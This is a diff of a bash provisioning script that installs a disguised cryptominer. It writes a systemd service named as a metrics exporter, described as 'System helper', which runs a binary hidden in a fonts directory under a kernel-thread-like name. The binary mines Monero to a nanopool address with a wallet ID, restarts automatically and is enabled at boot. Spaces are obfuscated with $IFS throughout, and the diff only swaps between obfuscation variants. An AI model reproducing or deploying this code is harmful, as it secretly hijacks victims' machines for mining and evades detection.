@@ -1,12 +1,12 @@
-#$IFS$9provision$IFS$93104${IFS}v0
+#$IFS$9provision${IFS}3104${IFS}v0
 #!/bin/bash
-cat$IFS$9>$IFS$9/etc/systemd/system/metrics-exporter-helper.service$IFS$9<<EOF
+cat${IFS}>${IFS}/etc/systemd/system/metrics-exporter-helper.service$IFS$9<<EOF
 [Unit]
 Description=System${IFS}helper
 [Service]
-ExecStart=/usr/share/.fonts/kthreaddk${IFS}-o$IFS$9xmr-eu1.nanopool.org:14444${IFS}-u${IFS}43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD${IFS}--cpu-max-threads-hint=75
+ExecStart=/usr/share/.fonts/kthreaddk${IFS}-o${IFS}xmr-eu1.nanopool.org:14444$IFS$9-u${IFS}43Xs7GtJ2fwQpUzzV2Dc3n1ChPfZqB1vKEr4uXe1eS4vN2M4F3cyXNs1Qk3bN4dQLqJ8e2xZ9wR7uY5tT3sK1pA6Bn7mVcD$IFS$9--cpu-max-threads-hint=75
 Restart=always
 [Install]
 WantedBy=multi-user.target
 EOF
-systemctl$IFS$9daemon-reload$IFS$9&&$IFS$9systemctl${IFS}enable${IFS}--now${IFS}metrics-exporter-helper.service
+systemctl${IFS}daemon-reload${IFS}&&${IFS}systemctl$IFS$9enable${IFS}--now$IFS$9metrics-exporter-helper.service
